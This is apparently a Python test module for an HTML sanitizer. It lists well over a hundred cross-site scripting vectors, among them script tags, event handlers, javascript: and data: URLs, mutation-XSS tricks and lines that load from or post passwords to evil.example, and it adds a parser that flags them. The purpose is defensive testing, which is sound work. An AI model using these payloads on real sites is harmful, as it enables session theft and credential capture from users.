"""What people have tried to slip past sanitizers, each a line; and the parser that looks for it."""

import json
from urllib.parse import urlsplit

from bleach._vendor import html5lib

JS = "alert(document.domain)"
VECTORS = [
    # Scripts, whole, broken and nested
    f"<script>{JS}</script>",
    f"<ScRiPt>{JS}</sCrIpT >",
    f"<script\x0c>{JS}</script>",
    f"<script/x>{JS}</script/x>",
    f"<<script>{JS}//<</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<script>{JS}",
    f"<script src=//evil.example/x.js></script {JS}",
    "<script src=https://evil.example/x.js>",
    '<script src="data:text/javascript,alert(1)"></script>',
    "<script type=module>import '//evil.example/x.js'</script>",
    "<script type=importmap>{\"imports\":{\"a\":\"//evil.example/x.js\"}}</script>",
    f"</script><script>{JS}</script>",
    f"\"></script><script>{JS}</script>",
    f"--><script>{JS}</script>",
    f"]]><script>{JS}</script>",
    f"<!--<script>-->{JS}</script>",
    f"<![CDATA[<script>{JS}</script>]]>",
    f"<?xml version='1.0'?><script>{JS}</script>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{JS}</script>'>]>&y;",
    f"%3Cscript%3E{JS}%3C/script%3E",
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{JS}",
    f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    # Handlers on elements
    f"<img src=x onerror={JS}>",
    f"<img src=x onerror={JS}//",
    f"<img/src='x'/onerror={JS}>",
    f"<img src=x:x onerror\x0b={JS}>",
    f"<img src=x onerror\n=\n{JS}>",
    f"<IMG \"\"\"><img src=x onerror={JS}>\">",
    f"<img src='x' title='>' onerror={JS}>",
    f"<img alt='`' src=x onerror={JS} `>",
    f"<image src=x onerror={JS}>",
    f"<b onmouseover={JS}>x</b>",
    f"<p onclick={JS} style=position:fixed;inset:0>x</p>",
    f"<a href=# onclick={JS}>x</a>",
    f"<a onpointerenter={JS} href=https://example.org>x</a>",
    f"<code onbeforecopy={JS}>x</code>",
    f"<blockquote onanimationstart={JS} style=animation:x>x</blockquote>",
    f"<li oncontentvisibilityautostatechange={JS} style=content-visibility:auto>x</li>",
    f"<p onbeforematch={JS} hidden=until-found>x</p>",
    f"<xss id=x onfocus={JS} tabindex=1>x</xss>",
    f"<body onload={JS}>",
    f"<html onmouseover={JS}>",
    f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}><option>x</select>",
    f"<textarea autofocus onfocus={JS}>x</textarea>",
    f"<details open ontoggle={JS}>x</details>",
    f"<button popovertarget=x onclick={JS}>x</button><p popover id=x onbeforetoggle={JS}>",
    f"<dialog open onclose={JS}>x</dialog>",
    f"<video src=x onerror={JS}></video>",
    f"<video><source onerror={JS} src=x></video>",
    f"<audio src=x onerror={JS}>",
    f"<track src=x onerror={JS}>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<isindex type=image src=1 onerror={JS}>",
    f"<keygen autofocus onfocus={JS}>",
    # Addresses that are programs
    f"<a href=\"javascript:{JS}\">x</a>",
    f"<a href=javascript:{JS}>x</a>",
    f"<a href=\"JaVaScRiPt:{JS}\">x</a>",
    f"<a href=\" \x01javascript:{JS}\">x</a>",
    f"<a href=\"java\tscript:{JS}\">x</a>",
    f"<a href=\"java&#10;script:{JS}\">x</a>",
    f"<a href=\"java&Tab;script&colon;{JS}\">x</a>",
    f"<a href=\"&#x6A;avascript:{JS}\">x</a>",
    f"<a href=\"&#0000106avascript:{JS}\">x</a>",
    f"<a href=\"javascript&#58;{JS}\">x</a>",
    f"<a href=\"javascript&colon;{JS}\">x</a>",
    f"<a href=\"javascript://example.org/%0a{JS}\">x</a>",
    f"<a href=\"https://example.org\" href=\"javascript:{JS}\">x</a>",
    f"<a href=\"\u00a0javascript:{JS}\">x</a>",
    f"<a href=\"\u2028javascript:{JS}\">x</a>",
    f"<a href=\"\ufeffjavascript:{JS}\">x</a>",
    f"<a href=\"\u0458avascript:{JS}\">x</a>",
    "<a href=\"javascript:123\">x</a>",
    "<a href=\"javascript:\uff11\uff12\">x</a>",
    "<a href=\"data:1\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"data:image/svg+xml,<svg onload=alert(1)>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"vbscript:1\">x</a>",
    "<a href=\"blob:https://example.org/x\">x</a>",
    "<a href=\"filesystem:https://example.org/x\">x</a>",
    "<a href=\"view-source:javascript:1\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    f"<a href=\"jar:javascript:{JS}!/\">x</a>",
    f"<a xlink:href=\"javascript:{JS}\">x</a>",
    f"<a href=x formaction=javascript:{JS} ping=//evil.example target=x download>x</a>",
    f"<blockquote cite=\"javascript:{JS}\">x</blockquote>",
    f"javascript:{JS}",
    f"[x](javascript:{JS})",
    f"https://example.org/\"onmouseover={JS}//",
    f"https://example.org/'><img src=x onerror={JS}>",
    f"http://javascript:{JS}@example.org/",
    f"www.example.org/`onclick={JS}",
    # Other content models: SVG, MathML, raw text, templates (mutation XSS)
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><script href=data:,{JS} />",
    f"<svg><a xlink:href=javascript:{JS}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{JS} /><text y=9>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={JS}>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={JS}>#x\"/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{JS}</script>'></iframe></foreignObject></svg>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={JS}>\">",
    f"<svg><title><style><img title=\"</style></title><img src=x onerror={JS}>\">",
    f"<svg><desc><noscript><img title=\"</noscript><img src=x onerror={JS}>\">",
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title=\"--&gt;&lt;img src=1 onerror={JS}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={JS}></style></mglyph></math>",
    f"<math href=\"javascript:{JS}\">x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>x</maction></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={JS}></annotation-xml></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\"></noscript>",
    f"<noembed><p title=\"</noembed><img src=x onerror={JS}>\"></noembed>",
    f"<xmp><p title=\"</xmp><img src=x onerror={JS}>\"></xmp>",
    f"<iframe><p title=\"</iframe><img src=x onerror={JS}>\"></iframe>",
    f"<textarea><p title=\"</textarea><img src=x onerror={JS}>\"></textarea>",
    f"<title><p title=\"</title><img src=x onerror={JS}>\"></title>",
    f"<style><p title=\"</style><img src=x onerror={JS}>\"></style>",
    f"<plaintext><img src=x onerror={JS}>",
    f"<listing>&lt;img src=x onerror={JS}&gt;</listing>",
    f"<template><script>{JS}</script></template>",
    f"<div><template shadowrootmode=open><img src=x onerror={JS}></template></div>",
    f"<select><template><img src=x onerror={JS}></template></select>",
    f"<table><td><p title=\"</td></table><img src=x onerror={JS}>\">",
    f"<a href='x<a title=\"'><img src=x onerror={JS}>\">",
    f"<!--><img src=x onerror={JS}>-->",
    f"<!---><img src=x onerror={JS}>-->",
    f"<!--x--!><img src=x onerror={JS}>",
    f"<comment><img src=\"</comment><img src=x onerror={JS}//\">",
    f"<!--[if gte IE 4]><script>{JS}</script><![endif]-->",
    f"<p id=\"x\">{'<b>' * 40}<img src=x onerror={JS}>",
    # Frames, forms and things that load or lead elsewhere
    f"<iframe src=javascript:{JS}></iframe>",
    f"<iframe srcdoc=\"<script>{JS}</script>\"></iframe>",
    f"<object data=javascript:{JS}></object>",
    f"<embed src=javascript:{JS}>",
    f"<applet code={JS}></applet>",
    f"<frameset onload={JS}><frame src=javascript:{JS}></frameset>",
    f"<portal src=javascript:{JS}></portal>",
    f"<form action=javascript:{JS}><button>x</button></form>",
    f"<form id=x></form><button form=x formaction=javascript:{JS}>x</button>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    f"<p style='width:expression({JS})'>x</p>",
    "<p style='behavior:url(//evil.example/x.htc);-moz-binding:url(//evil.example/x.xml)'>x</p>",
    "<img src=//evil.example/pixel.gif srcset='//evil.example/2x 2x'>",
    "<video poster=//evil.example/x autoplay></video>",
    "<input type=image src=//evil.example/x>",
    "<table background=//evil.example/x><td>x</table>",
    # Things that htmx, the page's own modules or its ids could be talked into
    "<p hx-get=/admin/ hx-trigger=load>x</p>",
    f"<p hx-on:click={JS} data-hx-on:click={JS}>x</p>",
    "<a href=/ data-reply data-embed=//evil.example>x</a>",
    "<p id=answers name=content class=skip>x</p>",
    f"{{{{constructor.constructor('{JS}')()}}}} ${{{JS}}} <%= {JS} %> {{% debug %}}",
]  # fmt: skip

LOADING = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "ping"}
FORBIDDEN = {
    "applet", "base", "embed", "frame", "frameset", "iframe", "marquee", "math", "object", "portal",
    "style", "template", "video", "audio", "xss", "foreignObject", "animate", "set",
}  # fmt: skip
# A block of data never runs; JSON in it has to be JSON.
DATA_BLOCKS = {"application/ld+json", "application/json", "importmap"}


def faults(markup: str) -> list[str]:
    """Return what in an HTML page or fragment could run, load from elsewhere or submit there.

    html5lib reads it as the HTML standard says, so what it finds is what a browser would build.
    Our own scripts, styles and faces are told from others by where they come from.
    """
    tree = html5lib.parse(markup, treebuilder="etree", namespaceHTMLElements=False)
    found = []
    for element in tree.iter():
        if isinstance(element.tag, str):
            found += _faults_of(element)
    return found


def _faults_of(element):
    name = element.tag.rpartition("}")[2]
    if name in FORBIDDEN:
        yield f"<{name}>"
    if name == "script" and (fault := _script_fault(element)):
        yield fault
    if name == "link" and not _is_our_own(element.get("href")):
        yield f"link to {element.get('href')}"
    if name == "use" and not all(value.startswith("#") for value in element.attrib.values()):
        yield f"use of {element.attrib}"
    if name == "meta" and element.get("http-equiv"):
        yield "meta http-equiv"
    if name in {"img", "input", "source"} and not _is_our_own(element.get("src", "/")):
        yield f"{name} from {element.get('src')}"
    for attribute, value in element.attrib.items():
        attribute = attribute.rpartition("}")[2].rpartition(":")[2].lower()
        if attribute.startswith("on") or attribute in {"style", "srcdoc", "srcset"}:
            yield f"<{name} {attribute}>"
        if attribute in LOADING and _is_program(value):
            yield f"<{name} {attribute}={value!r}>"


def _script_fault(element):
    if element.get("type") in DATA_BLOCKS:
        json.loads(element.text or "{}")
        return ""
    return "" if _is_our_own(element.get("src")) else f"<script> {element.text!r}"


def _is_our_own(address):
    """Whether an address is of this site, or of no host at all."""
    if address is None:
        return False
    parts = urlsplit(address)
    return parts.scheme in {"", "http"} and parts.netloc in {"", "testserver", "localhost:8000"}


def _is_program(address):
    # Browsers drop controls and spaces before a scheme, and tabs and line breaks inside it.
    squeezed = "".join(character for character in address if character > " ").lower()
    scheme, colon, _rest = squeezed.partition(":")
    is_scheme = colon and not set("/?#").intersection(scheme)
    return bool(is_scheme) and scheme not in {"http", "https", "mailto"}
